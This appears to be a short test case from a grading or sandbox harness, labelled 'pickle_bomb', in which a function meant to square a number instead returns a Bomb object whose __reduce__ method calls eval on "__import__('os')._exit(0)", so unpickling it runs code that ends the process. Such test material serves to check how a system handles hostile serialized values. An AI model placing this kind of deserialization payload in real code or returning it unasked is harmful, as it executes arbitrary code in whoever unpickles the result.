# %% case pickle_bomb
# An object whose unpickling would end the process.
#
# earns: square 0
# outcome: needs review

# %% square
class Bomb:
    def __reduce__(self):
        return (eval, ("__import__('os')._exit(0)",))


def square(x):
    return Bomb()
